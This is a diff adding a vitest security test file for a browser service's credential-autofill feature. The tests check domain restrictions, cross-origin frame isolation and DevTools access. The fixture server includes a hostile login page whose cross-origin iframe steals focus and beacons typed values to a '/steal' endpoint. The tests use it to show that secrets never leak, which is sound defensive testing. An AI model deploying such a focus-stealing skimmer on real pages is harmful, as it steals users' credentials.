@@ -1,0 +1,137 @@
+import { once } from "node:events";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { type LoginSites, startLoginSites } from "@browser-service/test-pages/login-sites";
+import type { ManagedAuth } from "@browser-service/types";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import WebSocket from "ws";
+import { isWithin, mayTypeCredentials } from "../src/managed-auth/credential-hosts.js";
+import { useTestServer } from "./support/test-server.js";
+
+// A stored credential's values, from the attacker's side: a key holder of the project
+// who points a connection at their own page, or reaches into the login browser; a login
+// page that hands the focus to another origin's frame.
+
+let sites: LoginSites;
+let hostile: Server;
+let port = 0;
+/** What the hostile pages' frames and forms received. */
+const received: string[] = [];
+const SECRET = "S3cr3t-never-leaves";
+
+beforeAll(async () => {
+  sites = await startLoginSites();
+  hostile = createServer((request, response) => {
+    const url = new URL(request.url ?? "/", "http://x");
+    if (url.pathname === "/steal") {
+      received.push(url.searchParams.get("v") ?? "");
+      response.end();
+      return;
+    }
+    response.writeHead(200, { "content-type": "text/html" });
+    if (url.pathname === "/frame") {
+      // Another origin's frame: whatever is typed while it holds the focus is reported.
+      response.end(
+        `<!doctype html><input id="x"><script>const x = document.getElementById("x");
+         addEventListener("focus", () => x.focus());
+         x.addEventListener("input", () => navigator.sendBeacon("/steal?v=" + encodeURIComponent(x.value)));</script>`,
+      );
+      return;
+    }
+    // The allowed origin's login page hands the focus to the other origin's frame whenever
+    // its own password input gets it.
+    response.end(
+      `<!doctype html><title>Sign in</title><form method="post" action="/done"><label for="p">Password</label><input id="p" type="password" name="p"><button>Sign in</button></form>
+       <iframe id="f" src="http://127.0.0.1:${port}/frame"></iframe>
+       <script>document.getElementById("p").addEventListener("focus", () => queueMicrotask(() => document.getElementById("f").focus()));</script>`,
+    );
+  });
+  hostile.listen(0, "127.0.0.1");
+  await once(hostile, "listening");
+  port = (hostile.address() as AddressInfo).port;
+});
+afterAll(async () => {
+  hostile?.close();
+  await sites?.close();
+});
+const t = useTestServer({ authFlowSeconds: 60 });
+
+const TERMINAL = new Set(["SUCCESS", "FAILED", "EXPIRED", "CANCELED"]);
+
+async function ended(id: string): Promise<ManagedAuth> {
+  for (;;) {
+    const record = await t.client().authConnections.get(id);
+    if (TERMINAL.has(String(record.flow_status))) return record;
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+}
+
+describe("a stored credential's values", () => {
+  it("are typed only on the credential's own domain, even where the connection allows typing", async () => {
+    const client = t.client();
+    // The credential is for 127.0.0.1; the key holder's connection allows localhost, where their page waits.
+    await client.credentials.create({ name: "bank", domain: "127.0.0.1", values: { username: "ceo@bank", password: SECRET } });
+    const connection = await client.authConnections.create({
+      domain: "localhost",
+      profile_name: "not-the-bank",
+      login_url: sites.url("localhost", "/password/login"),
+      credential: { name: "bank" },
+    });
+    await client.authConnections.login(connection.id);
+    expect(await ended(connection.id)).toMatchObject({ flow_status: "FAILED", error_code: "domain_not_allowed" });
+    expect(JSON.stringify(sites.submissions("password"))).not.toContain(SECRET);
+  });
+
+  it("never reach another origin's frame that takes the focus", async () => {
+    const client = t.client();
+    await client.credentials.create({ name: "framed", domain: "localhost", values: { password: SECRET } });
+    const connection = await client.authConnections.create({
+      domain: "localhost",
+      profile_name: "framed",
+      login_url: `http://localhost:${port}/login`,
+      credential: { name: "framed" },
+    });
+    await client.authConnections.login(connection.id);
+    await ended(connection.id);
+    // Give a frame's report time to arrive, had it got anything.
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    expect(received.filter((value) => value.includes("S3cr3t"))).toEqual([]);
+  });
+
+  it("are in a browser no key of the project can list, read or attach DevTools to", async () => {
+    const client = t.client();
+    const connection = await client.authConnections.create({
+      domain: "localhost",
+      profile_name: "hidden",
+      login_url: sites.url("localhost", "/two-step/login"),
+    });
+    await client.authConnections.login(connection.id);
+    let record = await client.authConnections.get(connection.id);
+    while (record.flow_step !== "AWAITING_INPUT") record = await client.authConnections.get(connection.id);
+    const browserId = String(record.browser_session_id);
+    expect((await client.browsers.list()).map((browser) => browser.id)).not.toContain(browserId);
+    await expect(client.browsers.get(browserId)).rejects.toMatchObject({ status: 404 });
+    await expect(client.webmcp.listTools(browserId)).rejects.toMatchObject({ status: 404 });
+    const devtools = new WebSocket(`${t.url.replace("http", "ws")}/browsers/${browserId}/cdp`, { headers: { authorization: `Bearer ${t.orgKey}` } });
+    const answer = await new Promise<number>((resolve) => {
+      devtools.on("unexpected-response", (_request, response) => resolve(response.statusCode ?? 0));
+      devtools.on("open", () => resolve(101));
+      devtools.on("error", () => resolve(-1));
+    });
+    devtools.terminate();
+    // As missing as a deleted browser, to the organization's own key.
+    expect(answer).toBe(404);
+    await client.authConnections.delete(connection.id);
+  });
+});
+
+describe("where values may be typed", () => {
+  it("matches an IP address only as itself, and no multi-tenant sign-in host unless listed", () => {
+    expect(isWithin("10.0.0.1", "0.1")).toBe(false);
+    expect(isWithin("127.0.0.1", "127.0.0.1")).toBe(true);
+    expect(mayTypeCredentials("http://10.0.0.1/login", "example.com", ["0.1"])).toBe(false);
+    expect(mayTypeCredentials("https://attacker.okta.com/login", "example.com", [])).toBe(false);
+    expect(mayTypeCredentials("https://acme.okta.com/login", "example.com", ["acme.okta.com"])).toBe(true);
+    expect(mayTypeCredentials("https://accounts.google.com/signin", "example.com", [])).toBe(true);
+  });
+});
